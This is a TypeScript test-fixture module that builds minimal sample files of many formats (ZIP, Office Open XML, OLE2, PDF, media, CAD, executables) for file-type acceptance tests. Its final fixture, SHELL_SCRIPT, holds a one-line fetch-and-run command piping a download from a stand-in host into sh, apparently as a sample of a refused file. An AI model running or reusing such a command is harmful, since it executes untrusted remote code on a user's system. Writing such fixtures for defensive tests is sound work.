import { deflateRawSync } from 'node:zlib';

/**
 * Small files of each accepted kind (and of refused ones), built here for the files tests: real enough for
 * the type checks (signatures, container structure), not meant to open in their applications.
 */

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (CRC_TABLE[(crc ^ byte) & 0xff] as number) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

export interface ZipEntry {
  name: string;
  data: Buffer | string;
  /** Deflated (the default) or stored. */
  store?: boolean;
}

/**
 * A ZIP archive. `streamed`: sizes and CRC in a data descriptor after each entry instead of its local
 * header, as tools writing to a pipe do (Apache POI, Java's ZipOutputStream).
 */
export function makeZip(entries: ZipEntry[], options: { streamed?: boolean } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const raw = Buffer.isBuffer(entry.data) ? entry.data : Buffer.from(entry.data, 'utf8');
    const data = entry.store ? raw : deflateRawSync(raw);
    const name = Buffer.from(entry.name, 'utf8');
    const crc = crc32(raw);
    const streamed = options.streamed === true;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(streamed ? 0x08 : 0, 6);
    local.writeUInt16LE(entry.store ? 0 : 8, 8);
    local.writeUInt32LE(streamed ? 0 : crc, 14);
    local.writeUInt32LE(streamed ? 0 : data.length, 18);
    local.writeUInt32LE(streamed ? 0 : raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const descriptor = Buffer.alloc(streamed ? 16 : 0);
    if (streamed) {
      descriptor.writeUInt32LE(0x08074b50, 0);
      descriptor.writeUInt32LE(crc, 4);
      descriptor.writeUInt32LE(data.length, 8);
      descriptor.writeUInt32LE(raw.length, 12);
    }
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(streamed ? 0x08 : 0, 8);
    central.writeUInt16LE(entry.store ? 0 : 8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data, descriptor);
    centrals.push(central, name);
    offset += local.length + name.length + data.length + descriptor.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const OOXML_MAIN = {
  docx: [
    'word/document.xml',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
  ],
  xlsx: ['xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'],
  pptx: [
    'ppt/presentation.xml',
    'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
  ],
  xlsm: ['xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'],
} as const;

/**
 * An Office Open XML package. `contentTypesLast`: `[Content_Types].xml` after the parts (openpyxl and
 * others write it last); `padding`: bytes of an incompressible part before it, to put it far from the head.
 */
export function makeOoxml(
  kind: keyof typeof OOXML_MAIN,
  options: { contentTypesLast?: boolean; streamed?: boolean; padding?: number } = {},
): Buffer {
  const [mainPart, mainType] = OOXML_MAIN[kind];
  const contentTypes: ZipEntry = {
    name: '[Content_Types].xml',
    data:
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      `<Override PartName="/${mainPart}" ContentType="${mainType}"/>` +
      '</Types>',
  };
  const parts: ZipEntry[] = [
    { name: '_rels/.rels', data: '<Relationships/>' },
    { name: mainPart, data: '<document/>' },
  ];
  if (options.padding) {
    // Pseudo-random bytes stay their size when deflated.
    const noise = Buffer.alloc(options.padding);
    let x = 12345;
    for (let i = 0; i < noise.length; i++) {
      x = (x * 1103515245 + 12345) & 0x7fffffff;
      noise[i] = x >> 16;
    }
    parts.push({ name: 'media/image1.bin', data: noise, store: true });
  }
  const entries = options.contentTypesLast ? [...parts, contentTypes] : [contentTypes, ...parts];
  return makeZip(entries, { streamed: options.streamed === true });
}

/** An OpenDocument text: the uncompressed `mimetype` entry first. */
export function makeOdt(): Buffer {
  return makeZip([
    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', store: true },
    { name: 'content.xml', data: '<office:document-content/>' },
  ]);
}

/**
 * An OLE2 compound file with a directory of the given stream names: a legacy Word file has
 * `WordDocument`, Excel `Workbook`, PowerPoint `PowerPoint Document`; an installer has others.
 * `leadingSectors`: sectors of data before the directory, to put it far from the head.
 */
export function makeOle2(streams: string[], leadingSectors = 0): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x3e, 24); // minor version
  header.writeUInt16LE(3, 26); // major version 3: 512-byte sectors
  header.writeUInt16LE(0xfffe, 28); // little-endian
  header.writeUInt16LE(9, 30); // sector shift
  header.writeUInt16LE(6, 32); // mini sector shift
  header.writeUInt32LE(leadingSectors, 48); // first directory sector
  const data = Buffer.alloc(leadingSectors * 512, 0x41);
  const names = ['Root Entry', ...streams];
  const directory = Buffer.alloc(Math.ceil(names.length / 4) * 512);
  names.forEach((name, i) => {
    const entry = directory.subarray(i * 128, (i + 1) * 128);
    const utf16 = Buffer.from(`${name}\0`, 'utf16le');
    utf16.copy(entry, 0);
    entry.writeUInt16LE(utf16.length, 64);
    entry[66] = i === 0 ? 5 : 2;
  });
  return Buffer.concat([header, data, directory]);
}

export const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n' +
    '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);

/** An MP4 header: the ftyp box (brand isom) and an empty mdat. */
export const MP4 = Buffer.concat([
  Buffer.from([0, 0, 0, 0x18]),
  Buffer.from('ftypisom'),
  Buffer.from([0, 0, 2, 0]),
  Buffer.from('isomiso2'),
  Buffer.from([0, 0, 0, 8]),
  Buffer.from('mdat'),
]);

/** A WebM EBML header (DocType "webm"). */
export const WEBM = Buffer.concat([
  Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0xf7, 0x81, 0x01]),
  Buffer.from([0x42, 0x82, 0x84]),
  Buffer.from('webm'),
  Buffer.alloc(16, 0),
]);

/** The first Ogg page of a Theora video. */
export const OGG_VIDEO = Buffer.concat([
  Buffer.from('OggS'),
  Buffer.alloc(22, 0), // version, header type, granule position, serial, sequence, checksum
  Buffer.from([1, 42]), // one segment of 42 bytes
  Buffer.from('\x80theora', 'latin1'),
  Buffer.alloc(35, 0),
]);

/** Two frames of MPEG-1 layer III (128 kbit/s, 44.1 kHz: 417 bytes each), without an ID3 tag. */
export const MP3_FRAMES = Buffer.concat(
  [0, 1].map(() => Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x00]), Buffer.alloc(413, 0)])),
);

/** An MP3 with an ID3v2 tag. */
export const MP3 = Buffer.concat([Buffer.from('ID3'), Buffer.from([4, 0, 0, 0, 0, 0, 0]), Buffer.alloc(32)]);

export const DWG = Buffer.concat([Buffer.from('AC1032'), Buffer.alloc(64, 0)]);

export const IFC = Buffer.from(
  "ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION(('ViewDefinition [CoordinationView]'),'2;1');\n" +
    "FILE_NAME('示范项目.ifc','2026-11-21T08:00:00',(''),(''),'','','');\nFILE_SCHEMA(('IFC4'));\n" +
    "ENDSEC;\nDATA;\n#1=IFCPROJECT('0xScRe4drECQ4DMSqUjd6d',$,'示范项目',$,$,$,$,$,$);\nENDSEC;\n" +
    'END-ISO-10303-21;\n',
);

export const TEXT = Buffer.from('工地日志\n2026-11-21 晴，混凝土浇筑完成。\nSite log: concrete poured.\n');

/** A Windows executable's first bytes (DOS header, then NULs). */
export const EXE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(62, 0),
  Buffer.from('PE\0\0'),
  Buffer.alloc(64),
]);
export const ELF = Buffer.concat([Buffer.from('\x7fELF'), Buffer.from([2, 1, 1, 0]), Buffer.alloc(56, 0)]);
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
